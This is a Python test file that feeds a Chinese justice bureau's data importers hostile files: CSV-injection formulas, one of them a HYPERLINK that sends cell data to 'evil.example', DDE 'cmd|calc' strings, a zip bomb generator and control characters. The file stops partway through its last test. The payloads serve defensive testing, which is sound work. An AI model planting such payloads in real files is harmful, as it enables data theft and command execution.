"""Every registered importer swept with hostile files, through the entry points users have (the
import page's upload and `run_import`, which the page and `fazhi import` call), as 弥勒市司法局's
coordinator: the untouched template, sheets that claim to be huge, a zip bomb, formulas, control
characters, odd encodings, absurd numbers and dates, a bad row after a good one.

What holds for every file: no uncaught exception (and no failed run on the page), a refused file
writes nothing (every model's row count and the audit trail unchanged), and every error is in
Chinese and names its row (and, for a cell, its column). Text that would be a formula is
accepted as text, and then no Excel export of the ledger it went to holds a formula.

Valid rows are built from each importer's declared columns (their examples, their choices, the
codes the template lists for the user). Where an importer needs records that no column declares
(a 调解组织 with its 调解员, certified 执法人员, a case to be reviewed), `PREREQUISITES` makes
them through the procedure's own test factories and `OVERRIDES` says which cells must name them.
Each test collects every problem of its importer and reports them together.
"""

import codecs
import csv
import datetime as dt
import functools
import io
import re
import sys
import time
import traceback
import zipfile
from contextlib import suppress
from importlib import import_module
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl
import pytest
from django.apps import apps
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import NoReverseMatch, reverse
from django.utils.html import escape as html_escape

from fazhi.core import duties
from fazhi.core.audit import Channel
from fazhi.core.imports import (
    FILE_ROW,
    Importer,
    all_importers,
    get_importer,
    result_from_dict,
    run_import,
)
from fazhi.core.imports.parsers import Boolean, Choice, Date, Integer, Lookup, Number, Text
from fazhi.core.models import ImportRun, ImportRunStatus, OrgUnit
from fazhi.core.procedures import all_duties, all_procedures, for_model, resolve
from fazhi.testing.xlsx_files import with_declared_size, workbook_bytes

pytestmark = [pytest.mark.django_db, pytest.mark.urls("fazhi.urls")]

KINDS = sorted(importer.kind for importer in all_importers())
# The file readers are the kernel's, the same for every importer: a flat ledger, a history
# replayed through the services, and the org directory (rows depending on earlier rows).
READER_KINDS = [kind for kind in ("mediation", "reconsideration", "units") if kind in KINDS]
CJK = re.compile("[\u4e00-\u9fff]")
MB = 2**20
SECONDS = 10  # the most a refused hostile file may take (two shared cores)
MEMORY = 40 * MB  # the most it may add to the process's peak memory
# Written by the page itself, not by an import: the run, the session, the login throttle.
NOT_IMPORTED = {"core.ImportRun", "sessions.Session"}
NOT_IMPORTED_APPS = {"axes"}

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "＝1+1",
]
FORMULA_MARKERS = ("HYPERLINK", "cmd|", "SUM(1,2)", "＝1+1")
# OWASP "CSV injection": what a spreadsheet may evaluate (fazhi.core.exports neutralises these).
FORMULA_STARTS = tuple("=+-@\t\r＝＋－＠")


# --- what each importer needs beyond its columns ------------------------------------------------


def procedure_of(kind: str):
    for procedure in all_procedures():
        if any(resolve(importer).kind == kind for importer in procedure.importers):
            return procedure
    return None


def factories(kind: str):
    """The procedure's tests/factories.py (the import-linter contract allows the kernel's tests
    to use procedures' tests modules)."""
    model = procedure_of(kind).model
    return import_module(f"{model.__module__.rsplit('.', 1)[0]}.tests.factories")


def _mediation(org, people):
    factories("mediation").body(org, "justice")  # with its 调解员 杨调解


def _decisions(org, people):
    factories("decisions").catalogue(org, people, year=2021)


def _adviser_work(org, people):
    made = factories("adviser_work")
    actor = people["coordinator"]
    who = made.adviser(org, actor, name="李明")
    made.engagement(org, actor, who=who, start_on=dt.date(2021, 1, 1), end_on=dt.date(2021, 12, 31))


def _enforcement(org, people):
    factories("enforcement").officers(org["justice"], field="market")  # 张执法、李执法


def _casereview(org, people):
    crew = factories("enforcement").officers(org["justice"], field="market")
    factories("casereview").closed_case(
        org, people["coordinator"], unit=org["justice"], field="market", crew=crew
    )


def _power_items(org, people):
    title = get_importer("power_items").columns[0].example  # the version the template names
    factories("power_items").draft(org, people["coordinator"], title=title)


def _pledges(org, people):
    name = get_importer("pledges").columns[1].example  # the proof the template names
    factories("pledges").proof(org, people, unit=org["justice"], name=name)


PREREQUISITES = {
    "pledges": _pledges,
    "power_items": _power_items,
    "mediation": _mediation,
    "decisions": _decisions,
    "adviser_work": _adviser_work,
    "enforcement": _enforcement,
    "casereview": _casereview,
}
OVERRIDES = {
    "advisers": {"类别": "法律专家"},  # no licence number to give (a 社会律师 needs one)
    "mediation": {"调解员": "杨调解", "协议形式": "书面协议", "协议内容摘要": "按责任比例赔偿"},
    "enforcement": {"立案日期": "2025-06-03"},  # the officers' certificates hold from 2025
    "casereview": {"案号": "弥公(治)立字〔2025〕1号", "评查年度": "2025", "评分日期": "2025-11-20"},
}


@pytest.fixture
def world(org, people):
    """弥勒市司法局 holds every duty a procedure declares; the coordinator imports."""
    for duty in all_duties():
        duties.assign(None, Channel.CLI, org["justice"], duty.key)
    return people["coordinator"]


def prepare(kind, org, people):
    if kind in PREREQUISITES:
        PREREQUISITES[kind](org, people)
    find_distinct(get_importer(kind), people["coordinator"])


# --- valid rows from the declared columns -------------------------------------------------------


def _id_number(first17: str) -> str:
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    total = sum(int(digit) * weight for digit, weight in zip(first17, weights, strict=True))
    return first17 + "10X98765432"[total % 11]


def _cell(column, user) -> str:
    parse, example = column.parse, column.example
    if isinstance(parse, Lookup):
        listed = [value for value, _ in column.listed(user)]
        if example and example in listed:
            return example
        if not column.required:
            return ""
        if parse.model is OrgUnit:
            return user.unit.code
        return listed[0] if listed else ""
    if isinstance(parse, Choice):
        if not column.required and not example:
            return ""
        return example if example in parse.options else parse.options[0]
    if isinstance(parse, Text) and "电话" in column.header:
        return "13812345678"
    if example:
        if isinstance(parse, Text) and re.fullmatch(r"\d{17}[\dX]", example):
            return _id_number(example[:17])  # a valid check digit (GB 11643)
        return example
    if not column.required:
        return ""
    if isinstance(parse, Date):
        return "2021-03-01"
    if isinstance(parse, Integer):
        return str(parse.min_value or 1)
    if isinstance(parse, Boolean):
        return "否"
    return "测试"


def _candidates(importer) -> list:
    """Text columns whose value may tell two rows apart: the last text key column, then the
    other required text columns."""
    keyed = [c for c in importer.columns if c.name in importer.key_columns]
    texts = [c for c in keyed if isinstance(c.parse, Text)][-1:]
    return texts + [
        c
        for c in importer.columns
        if c.required and isinstance(c.parse, Text) and c.name not in importer.key_columns
    ]


# kind → the header whose value `n` makes unique, found by trying (None: one valid row a file,
# e.g. a 评查 result of the one case there is).
DISTINCT: dict[str, str | None] = {}


def valid_row(importer: type[Importer], user, n: int = 1) -> dict[str, str]:
    """A row the importer accepts; `n` sets it apart from other rows (DISTINCT)."""
    row = {column.header: _cell(column, user) for column in importer.columns}
    row |= OVERRIDES.get(importer.kind, {})
    if importer.kind in DISTINCT:
        header = DISTINCT[importer.kind]
        column = next((c for c in importer.columns if c.header == header), None)
    else:
        column = next(iter(_candidates(importer)), None)
    if column is not None:
        base = row[column.header]
        tail = str(n) if base.isascii() and base.isalnum() else f"-{n}"
        limit = column.parse.max_length or 100
        row[column.header] = base[: limit - len(tail)] + tail
    return row


def find_distinct(importer, user) -> None:
    """Which column tells rows apart: the first whose two rows the importer accepts together."""
    if importer.kind in DISTINCT:
        return
    for column in _candidates(importer):
        DISTINCT[importer.kind] = column.header
        rows = [valid_row(importer, user, 1), valid_row(importer, user, 2)]
        content = csv_bytes(headers(importer), rows)
        result = run_import(importer.kind, io.BytesIO(content), "x.csv", user, Channel.IMPORT, True)
        if result.ok:
            return
    DISTINCT[importer.kind] = None


def some_rows(importer, user, n: int, count: int) -> list[dict]:
    """`count` valid rows from `n` on, or one if the importer takes only one (DISTINCT)."""
    return [
        valid_row(importer, user, n + i) for i in range(count if DISTINCT.get(importer.kind) else 1)
    ]


def headers(importer) -> list[str]:
    return [column.header for column in importer.columns]


def csv_bytes(header: list[str], rows: list, encoding="utf-8", delimiter=",", ending="\r\n"):
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator=ending)
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(h, "") for h in header] if isinstance(row, dict) else row)
    return buffer.getvalue().encode(encoding)


# --- hand-made XLSX (openpyxl cannot write what a hostile file holds) ---------------------------


class Num(str):
    """A cell written as an XLSX number (<v>), as typed: "1e400", "NaN", "-1"."""


def _letter(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(index + 1)


def sheet_row(number, cells: list) -> str:
    """A <row r=number>; its cells name their column (A1…), except in a row numbered below 1,
    where they follow one another (a cell without `r` is the one after the previous)."""
    xml = []
    for index, value in enumerate(cells):
        ref = f' r="{_letter(index)}{number}"' if number >= 1 else ""
        if value is None or value == "":
            if not ref:
                xml.append("<c/>")
        elif isinstance(value, Num):
            xml.append(f"<c{ref}><v>{value}</v></c>")
        else:  # raw: control characters go into the XML as they are
            xml.append(f'<c{ref} t="inlineStr"><is><t>{escape(str(value))}</t></is></c>')
    return f'<row r="{number}">{"".join(xml)}</row>'


def xlsx_table(header: list[str], rows: list, dimension="A1:B2") -> bytes:
    parts = [sheet_row(1, header)]
    for number, row in enumerate(rows, start=2):
        parts.append(sheet_row(number, [row.get(h, "") for h in header]))
    return workbook_bytes(parts, dimension)


@functools.cache
def zip_bomb() -> bytes:
    """≈200 MB of sheet XML (rows of one inline string) deflated to well under 1 MB."""
    block = ('<row><c t="inlineStr"><is><t>炸</t></is></c></row>' * 20_000).encode()
    return workbook_bytes([block] * (200 * MB // len(block)), "A1:A4000000")


# --- running, and what must hold ------------------------------------------------------------------


def _crash(exc: BaseException) -> str:
    """The exception and the deepest frame of product code it came from."""
    frames = [
        f
        for f in traceback.extract_tb(exc.__traceback__)
        if "/fazhi/" in f.filename and "/tests/" not in f.filename
    ]
    where = (
        f" at {frames[-1].filename.split('/fazhi/', 1)[-1]}:{frames[-1].lineno}" if frames else ""
    )
    return f"uncaught {type(exc).__name__}: {str(exc)[:160]}{where}"


class Sweep:
    """Runs one importer's files and collects what went wrong, to report all at once."""

    def __init__(self, kind: str, user):
        self.kind, self.user = kind, user
        self.importer = get_importer(kind)
        self.problems: list[str] = []
        self.notes: list[str] = []

    def problem(self, label: str, what: str) -> None:
        self.problems.append(f"[{self.kind}] {label}: {what}")

    def finish(self) -> None:
        for note in self.notes:
            print(f"[{self.kind}] {note}")
        assert not self.problems, "\n".join(self.problems)

    def run(self, label, content: bytes, filename="台账.csv", dry_run=False, bounded=False):
        """run_import as the command line and the page call it; None after a crash."""
        if bounded:
            with suppress(OSError):  # the peak memory starts again from here
                Path("/proc/self/clear_refs").write_text("5")
            before = _memory("VmRSS")
        started = time.monotonic()
        try:
            result = run_import(
                self.kind, io.BytesIO(content), filename, self.user, Channel.IMPORT, dry_run
            )
        except Exception as exc:  # the test reports it, with where it came from
            self.problem(label, _crash(exc))
            return None
        took = time.monotonic() - started
        if bounded:
            added = _memory("VmHWM") - before
            if took > SECONDS:
                self.problem(label, f"took {took:.1f} s (limit {SECONDS} s)")
            if added > MEMORY:
                self.problem(label, f"added {added / MB:.0f} MB to peak memory")
        self.check_errors(label, result)
        return result

    def check_errors(self, label, result) -> None:
        for error in result.errors:
            if not CJK.search(error.reason):
                self.problem(label, f"error not in Chinese: {error}")
            if error.row < 0:
                self.problem(label, f"error names no real row: {error}")
        if not result.ok and result.written:
            self.problem(label, f"refused, yet reports {result.written} rows written")

    def refused(self, label, result, before, *, row=None, column=None, reason=None):
        """The file is refused, nothing written, and (if given) the error names row/column."""
        if result is None:
            return
        if result.ok:
            self.problem(label, f"accepted ({result.written} rows written), expected a refusal")
        self.nothing_written(label, before)
        if row is not None:
            named = [e for e in result.errors if e.row == row]
            if column is not None:
                named = [e for e in named if e.column == column]
            if reason is not None:
                named = [e for e in named if reason in e.reason]
            if not named:
                found = "; ".join(str(e) for e in result.errors[:5])
                want = f"row {row}" + (f", column {column}" if column else "")
                self.problem(label, f"no error naming {want} ({reason or ''}); got: {found}")

    def nothing_written(self, label, before) -> None:
        after = snapshot()
        changed = {
            name: (before[name][0], after[name][0])
            for name in after
            if name in before and after[name][0] != before[name][0]
        }
        if changed:
            self.problem(label, f"refused file wrote rows (before, after): {changed}")


def _memory(field: str) -> int:
    for line in Path("/proc/self/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1]) * 1024
    return 0


def snapshot() -> dict[str, tuple[int, int]]:
    """(rows, highest id) of every model an import could write, the audit trail included."""
    counts = {}
    for model in apps.get_models():
        label = model._meta.label
        if label in NOT_IMPORTED or model._meta.app_label in NOT_IMPORTED_APPS:
            continue
        if model._meta.proxy or not model._meta.managed:
            continue
        manager = model._base_manager
        top = manager.order_by("-pk").values_list("pk", flat=True).first()
        counts[label] = (manager.count(), top if isinstance(top, int) else 0)
    return counts


def new_records(before):
    """(model, queryset of the rows added since `before`) for every model that grew."""
    after = snapshot()
    for label, (count, _) in after.items():
        if label in before and count > before[label][0]:
            model = apps.get_model(label)
            yield model, model._base_manager.filter(pk__gt=before[label][1])


def chinese_row_errors(sweep, label, result, rows: range) -> None:
    """Every error names a data row of the file (or is about the file as a whole)."""
    for error in result.errors:
        if error.row != FILE_ROW and error.row not in rows:
            sweep.problem(label, f"error names row {error.row}, not a data row: {error}")


# --- the page ---------------------------------------------------------------------------------


def upload(sweep, client, label, content: bytes, filename: str, dry_run=False):
    """The file through the import page, as a user sends it; its result (None if the run failed
    or the page did not answer 200)."""
    last = ImportRun.objects.order_by("-pk").values_list("pk", flat=True).first() or 0
    data = {"kind": sweep.kind, "file": SimpleUploadedFile(filename, content)}
    if dry_run:
        data["dry_run"] = "on"
    ignored = []  # exceptions raised where nothing can catch them (a generator's finally)
    hook, sys.unraisablehook = sys.unraisablehook, ignored.append
    try:
        # A generator left unfinished is closed as its last reference goes, within the request.
        response = client.post("/imports/upload/", data, follow=True)
    except Exception as exc:
        sweep.problem(label, "page: " + _crash(exc))
        return None, None
    finally:
        sys.unraisablehook = hook
    for raised in ignored:
        sweep.problem(label, f"exception ignored in {raised.object!r}: {raised.exc_value!r}")
    if response.status_code != 200:
        sweep.problem(label, f"page answered {response.status_code}")
        return None, None
    run = ImportRun.objects.filter(pk__gt=last, user=sweep.user).order_by("-pk").first()
    if run is None:
        sweep.problem(label, "page recorded no import run")
        return None, None
    if run.status != ImportRunStatus.DONE or not run.result:
        sweep.problem(label, f"page run {run.status}: {run.failure}")
        return None, run
    result = result_from_dict(run.result)
    page = response.content.decode()
    for error in result.errors[:5]:
        if html_escape(error.reason) not in page:
            sweep.problem(label, f"the result page does not show the error {error.reason!r}")
    sweep.check_errors(label, result)
    return result, run


def _sheet_xml(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/work"))


def check_no_formulas(sweep, label, content: bytes, neutralised=True) -> int:
    """No cell of the workbook is a formula, nor (`neutralised`: the contract of
    fazhi.core.exports) text that a spreadsheet would take for one once saved as CSV; how many
    cells carry a formula payload."""
    if re.search(rb"<(\w+:)?f[ >]", _sheet_xml(content)):
        sweep.problem(label, "the exported sheet XML holds a <f> formula element")
    seen = 0
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    sweep.problem(label, f"{sheet.title}!{cell.coordinate} is a formula: {value!r}")
                elif isinstance(value, str):
                    if neutralised and value.startswith(FORMULA_STARTS):
                        sweep.problem(
                            label, f"{sheet.title}!{cell.coordinate} not neutralised: {value!r}"
                        )
                    seen += any(marker in value for marker in FORMULA_MARKERS)
    return seen


def exports_of(kind: str, models) -> list[tuple[str, str]]:
    """(label, URL) of every Excel export of the ledgers these records went to."""
    procedures = {p.key: p for p in [procedure_of(kind), *(for_model(m) for m, _ in models)] if p}
    urls = []
    for procedure in procedures.values():
        urls.append((f"{procedure.key} ledger export", reverse(f"{procedure.key}:export")))
        urls.append((f"{procedure.key} list page", reverse(f"{procedure.key}:list")))
        records = [qs for model, qs in models if model is procedure.model]
        for pattern in procedure.extra_urls:
            name = getattr(pattern, "name", "") or ""
            if "export" not in name:
                continue
            for queryset in records:
                for pk in queryset.values_list("pk", flat=True)[:5]:
                    with suppress(NoReverseMatch):
                        url = reverse(f"{procedure.key}:{name}", args=[pk])
                        urls.append((f"{procedure.key} {name} {pk}", url))
    return urls


def check_exports(sweep, client, label, models) -> int:
    seen = 0
    for what, url in exports_of(sweep.kind, models):
        try:
            response = client.get(url)
        except Exception as exc:
            sweep.problem(f"{label}, {what}", _crash(exc))
            continue
        if response.status_code != 200:
            sweep.problem(f"{label}, {what}", f"answered {response.status_code}")
            continue
        if url.endswith(".xlsx"):
            streamed = getattr(response, "streaming", False)
            content = b"".join(response.streaming_content) if streamed else response.content
            seen += check_no_formulas(sweep, f"{label}, {what}", content)
    return seen


# --- the tests --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", KINDS)
def test_a_valid_row_built_from_the_declared_columns_imports(kind, org, people, world):
    """The baseline the other tests build on: if this fails, their valid rows are not valid."""
    prepare(kind, org, people)
    sweep = Sweep(kind, world)
    assert sweep.importer.can_import(world), f"{kind}: the coordinator may not import"
    before = snapshot()
    row = valid_row(sweep.importer, world)
    result = sweep.run("one valid row", csv_bytes(headers(sweep.importer), [row]))
    if result is not None:
        if not (result.ok and result.written == 1):
            sweep.problem("one valid row", f"refused: {[str(e) for e in result.errors]}")
        elif not any(True for _ in new_records(before)):
            sweep.problem("one valid row", "reported written, but no table grew")
    told_apart = DISTINCT.get(kind)
    sweep.notes.append(f"rows told apart by {told_apart}" if told_apart else "one row a file")
    sweep.finish()


@pytest.mark.parametrize("kind", KINDS)
def test_the_untouched_template_is_refused_in_chinese(kind, client, org, people, world):
    sweep = Sweep(kind, world)
    client.force_login(world)
    for fmt in ("xlsx", "csv"):
        label = f"template.{fmt} uploaded unchanged"
        response = client.get(f"/imports/{kind}/template.{fmt}")
        if response.status_code != 200:
            sweep.problem(label, f"template download answered {response.status_code}")
            continue
        before = snapshot()
        filename = f"{sweep.importer.label}导入模板.{fmt}"
        result, _ = upload(sweep, client, label, response.content, filename)
        sweep.refused(label, result, before, row=FILE_ROW, reason="没有数据行")
    sweep.finish()


@pytest.mark.parametrize("kind", READER_KINDS)
def test_sheets_that_claim_to_be_huge_are_read_within_bounds(kind, org, people, world):
    prepare(kind, org, people)
    sweep = Sweep(kind, world)
    importer = sweep.importer
    header = headers(importer)
    row = [valid_row(importer, world).get(h, "") for h in header]
    column, value, _ = _invalid(importer)
    bad = [value if h == column else v for h, v in zip(header, row, strict=True)]
    other = valid_row(importer, world, 9)  # a key of its own: the file is not refused for it
    bad_alone = [value if h == column else other.get(h, "") for h in header]

    cases = [
        # (label, sheet parts, dimension, expected: "refused" | "either", the row to name)
        (
            "A1:XFD1048576 with a cell in XFD1048576",
            [sheet_row(1, header), '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'],
            "A1:XFD1048576",
            "refused",
            None,
        ),
        (
            "A1:XFD1048576 declared, one valid row",
            [sheet_row(1, header), sheet_row(2, row)],
            "A1:XFD1048576",
            "either",
            None,
        ),
        (
            "a valid row numbered 1048577",
            [sheet_row(1, header), sheet_row(1048577, row)],
            "A1:Z1048577",
            "refused",
            None,
        ),
        (
            "a valid row numbered 10**20",
            [sheet_row(1, header), sheet_row(10**20, row)],
            "A1:Z100000000000000000000",
            "refused",
            None,
        ),
        (
            "an invalid row numbered 1048576",
            [sheet_row(1, header), sheet_row(1048576, bad)],
            "A1:XFD1048576",
            "refused",
            1048576,
        ),
        (
            "an invalid row numbered -1",
            [sheet_row(1, header), sheet_row(-1, bad_alone)],
            "A1:Z2",
            "refused",
            None,
        ),
        (
            "an invalid row numbered 0",
            [sheet_row(1, header), sheet_row(0, bad_alone)],
            "A1:Z2",
            "refused",
            None,
        ),
    ]
    for label, parts, dimension, expected, named in cases:
        before = snapshot()
        result = sweep.run(label, workbook_bytes(parts, dimension), "台账.xlsx", bounded=True)
        if result is None:
            continue
        if expected == "refused" or not result.ok:
            sweep.refused(label, result, before, row=named, column=named and column)
        elif result.written != 1:
            sweep.problem(label, f"accepted but wrote {result.written} rows, not 1")
        if result.errors and label.endswith("numbered 0"):
            # The sheet calls it row 0, which is how errors about the whole file are marked: a
            # cell's error must not pass for one (nor a row 0 be read at all).
            for error in result.errors:
                if error.row == FILE_ROW and error.column:
                    sweep.problem(label, f"a cell's error reported as the file's: {error}")
    sweep.finish()


@pytest.mark.parametrize("kind", READER_KINDS)
def test_a_zip_bomb_named_xlsx_is_refused_quickly(kind, client, org, people, world):
    sweep = Sweep(kind, world)
    bomb = zip_bomb()
    assert len(bomb) < 2 * MB
    before = snapshot()
    result = sweep.run("zip bomb (run_import)", bomb, "台账.xlsx", bounded=True)
    sweep.refused("zip bomb (run_import)", result, before, row=FILE_ROW)

    lying = with_declared_size(bomb, "xl/worksheets/sheet1.xml", 1000)
    result = sweep.run("zip bomb hiding its size", lying, "台账.xlsx", bounded=True)
    sweep.refused("zip bomb hiding its size", result, before, row=FILE_ROW)

    client.force_login(world)
    started = time.monotonic()
    result, _ = upload(sweep, client, "zip bomb (page)", bomb, "台账.xlsx")
    if time.monotonic() - started > SECONDS:
        sweep.problem("zip bomb (page)", "took longer than the limit")
    sweep.refused("zip bomb (page)", result, before, row=FILE_ROW)
    sweep.finish()


def _text_columns(importer):
    return [c for c in importer.columns if isinstance(c.parse, Text)]


def _rows_with(importer, user, values: list[str], start=2):
    """A valid row per text column, holding one of `values` (they rotate over the columns); the
    rows' keys are made unique from `start` on."""
    rows = []
    for index, column in enumerate(_text_columns(importer)):
        n = start + index
        value = values[index % len(values)]
        row = valid_row(importer, user, n)
        distinct = column.name in importer.key_columns or column.header == DISTINCT.get(
            importer.kind
        )
        row[column.header] = f"{value}-{n}" if distinct else value
        rows.append(row)
    return rows


def _accepted_only(sweep, label, rows, result, first_row=2):
    """The rows the dry run accepted (each refused row's errors checked)."""
    if result is None:
        return []
    file_errors = [e for e in result.errors if e.row == FILE_ROW]
    if file_errors:
        sweep.problem(label, f"file refused: {file_errors}")
        return []
    refused = {e.row for e in result.errors}
    chinese_row_errors(sweep, label, result, range(first_row, first_row + len(rows)))
    return [row for number, row in enumerate(rows, start=first_row) if number not in refused]


def dry_then_write(sweep, label, rows, build, fmt, first_row=2):
    """A dry run of `rows`, then the rows it accepted written for real: (the dry run's result,
    the records written as new_records gives them or None, the rows kept)."""
    filename = f"台账.{fmt}"
    dry = sweep.run(label + ", dry run", build(rows), filename, dry_run=True)
    if dry is None or any(e.row == FILE_ROW for e in dry.errors):
        return dry, None, []
    kept = _accepted_only(sweep, label, rows, dry, first_row)
    if not kept:
        return dry, None, []
    before = snapshot()
    result = sweep.run(label + ", accepted rows written", build(kept), filename)
    if result is None:
        return dry, None, kept
    if not result.ok:
        errors = [str(e) for e in result.errors[:5]]
        sweep.problem(label, f"rows the dry run accepted were refused when written: {errors}")
        sweep.nothing_written(label, before)
        return dry, None, kept
    return dry, list(new_records(before)), kept


@pytest.mark.parametrize("kind", KINDS)
def test_formulas_in_text_cells_stay_text_in_every_export(kind, client, org, people, world):
    prepare(kind, org, people)
    sweep = Sweep(kind, world)
    importer = sweep.importer
    header = headers(importer)
    client.force_login(world)
    accepted = 0
    for fmt in ("csv", "xlsx"):
        rows = _rows_with(importer, world, FORMULAS, start=2 if fmt == "csv" else 100)
        build = csv_bytes if fmt == "csv" else xlsx_table
        label = f"formulas in text cells ({fmt})"
        _, grown, kept = dry_then_write(sweep, label, rows, lambda r, b=build: b(header, r), fmt)
        if grown is None:
            continue
        accepted += len(kept)
        seen = check_exports(sweep, client, label, grown)  # stored as typed, never evaluated
        shown = f"{seen} exported cells show a payload" if seen else "no export shows a payload"
        sweep.notes.append(f"{label}: {len(kept)} of {len(rows)} rows imported; {shown}")

    # The import's own error report is an Excel export too: a header and cells as typed.
    label = "error report of a file with formula header and cells"
    row = valid_row(importer, world, 300)
    first_text = _text_columns(importer)[0].header
    row[first_text] = FORMULAS[1]
    hostile_header = [*header, FORMULAS[0]]
    content = csv_bytes(hostile_header, [[*[row.get(h, "") for h in header], FORMULAS[1]]])
    before = snapshot()
    result, run = upload(sweep, client, label, content, "台账.csv")
    sweep.refused(label, result, before)
    if run is not None:
        report = client.get(f"/imports/runs/{run.pk}/errors.xlsx")
        if report.status_code != 200:
            sweep.problem(label, f"error report answered {report.status_code}")
        else:
            # Its cells are typed text (imports/templates.py, _text_cell): not neutralised with
            # a "'" as the ledger exports are, but never a formula.
            check_no_formulas(sweep, label, report.content, neutralised=False)
    if not accepted:
        sweep.notes.append("no row with a formula was accepted (every one refused)")
    sweep.finish()


def _late(header: list[str], rows: list) -> bytes:
    """The rows after 70 KB of empty rows, past what the type sniffer looks at (64 KB)."""
    filler = ("," * (len(header) - 1) + "\r\n").encode() * (70 * 1024 // len(header) + 1)
    head = csv_bytes(header, [])
    return head + filler + csv_bytes(header, rows)[len(head) :]


def _lines(header: list[str], rows: list, endings: list[str]) -> bytes:
    """The header and rows, each line ended as `endings` says (an empty row: {})."""
    out = []
    lines = [header, *[[r.get(h, "") for h in header] for r in rows]]
    for cells, ending in zip(lines, endings, strict=False):
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="").writerow(cells)
        out.append(buffer.getvalue() + ending)
    return "".join(out).encode()


@pytest.mark.parametrize("kind", KINDS)
def test_control_characters_and_encodings(kind, org, people, world):
    prepare(kind, org, people)
    sweep = Sweep(kind, world)
    importer = sweep.importer
    header = headers(importer)

    # Control characters in every text column: refused (naming the row, for a CSV, where any
    # editor can leave one in a cell), or stored without a NUL (PostgreSQL refuses NUL in text:
    # a NUL that reaches the database crashes the import there).
    start = 10
    filler = 70 * 1024 // len(header) + 1
    for char, name in (("\x00", "NUL"), ("\x1b", "ESC"), ("\u202e", "RLO")):
        for where in ("csv", "csv, after 70 KB of empty rows", "xlsx"):
            rows = _rows_with(importer, world, [f"甲{char}乙"], start=start)
            start += 40
            label = f"{name} in text cells ({where})"
            fmt = "xlsx" if where == "xlsx" else "csv"
            first_row = 2
            if where == "xlsx":
                build = functools.partial(xlsx_table, header)
            elif where == "csv":
                build = functools.partial(csv_bytes, header)
            else:
                build, first_row = functools.partial(_late, header), 2 + filler
            dry, grown, _ = dry_then_write(sweep, label, rows, build, fmt, first_row)
            file_level = [e for e in dry.errors if e.row == FILE_ROW] if dry else []
            if fmt == "csv" and file_level and not re.search(r"第\s*\d+\s*行", str(file_level)):
                sweep.problem(
                    label,
                    "a character in a cell refuses the file without naming its row: "
                    + file_level[0].reason,
                )
            for model, queryset in grown or ():
                for record in queryset:
                    for field in model._meta.concrete_fields:
                        value = getattr(record, field.attname, None)
                        if isinstance(value, str) and "\x00" in value:
                            sweep.problem(label, f"NUL stored in {model._meta.label}.{field.name}")

    # Encodings and line endings people's tools write: two valid rows each.
    rows = some_rows(importer, world, 500, 2)
    plain = csv_bytes(header, rows)
    variants = {
        "UTF-8 with BOM": codecs.BOM_UTF8 + plain,
        "UTF-16 tab-separated (Excel's Unicode text)": csv_bytes(
            header, rows, encoding="utf-16", delimiter="\t"
        ),
        "UTF-16 comma-separated": csv_bytes(header, rows, encoding="utf-16"),
        "mixed line endings (CR, LF, CRLF)": _lines(header, [*rows, {}], ["\r", "\n", "\r\n"]),
    }
    try:
        variants["GBK"] = csv_bytes(header, rows, encoding="gbk")
    except UnicodeEncodeError as exc:
        sweep.notes.append(f"GBK not tried: the valid row has a character GBK lacks ({exc})")
    for name, content in variants.items():
        label = f"{name} CSV"
        result = sweep.run(label, content, dry_run=True)
        if result is not None and not (result.ok and result.total_rows == len(rows)):
            errors = [str(e) for e in result.errors[:4]]
            read = f"{result.total_rows} of {len(rows)} read"
            sweep.problem(label, f"valid rows not accepted ({read}): {errors}")
    if "GBK" in variants:
        result = sweep.run("GBK CSV, written", variants["GBK"])
        if result is not None and not (result.ok and result.written == len(rows)):
            sweep.problem("GBK CSV, written", f"not written: {[str(e) for e in result.errors]}")
    sweep.finish()


ABSURD_NUMBERS = {  # the value → must it be refused on its cell
    "1" + "0" * 30: True,
    "-1": False,
    "-0": False,
    "1e400": True,
    "nan": True,
    "NaN": True,
    "inf": True,
}
ABSURD_XLSX_NUMBERS = {Num("1E+30"): True, Num("-1"): False, Num("1e400"): True, Num("NaN"): True}
DATES = {  # None: either way; "": refused on its cell; text: refused with this reason
    "0001-01-01": None,
    "9999-12-31": None,
    "2021-02-30": "日期无效",
    "２０２１年１月１日": None,
}
XLSX_SERIALS = {Num("0"): "", Num("-1"): "", Num("2958466"): "", Num("1e400"): "", Num("NaN"): ""}


@pytest.mark.parametrize("kind", KINDS)
def test_absurd_numbers_and_dates(kind, client, org, people, world):
    prepare(kind, org, people)
    sweep = Sweep(kind, world)
    importer = sweep.importer
    header = headers(importer)
    numeric = [c for c in importer.columns if isinstance(c.parse, Integer | Number)]
    dates = [c for c in importer.columns if isinstance(c.parse, Date)]
    client.force_login(world)

    for fmt, build in (("csv", csv_bytes), ("xlsx", xlsx_table)):
        rows, expect = [], []  # expect: (column, value, None | "" | reason)
        n = 1000 if fmt == "csv" else 2000
        numbers = ABSURD_NUMBERS if fmt == "csv" else ABSURD_XLSX_NUMBERS
        days = DATES if fmt == "csv" else XLSX_SERIALS
        cases = [(c, v, "" if must else None) for c in numeric for v, must in numbers.items()]
        cases += [(c, v, must) for c in dates for v, must in days.items()]
        for column, value, must in cases:
            rows.append(valid_row(importer, world, n) | {column.header: value})
            expect.append((column, value, must))
            n += 1
        if not rows:
            continue
        label = f"absurd numbers and dates ({fmt})"
        result = sweep.run(label + ", dry run", build(header, rows), f"台账.{fmt}", dry_run=True)
        if result is None:  # pinpoint the rows: one a file
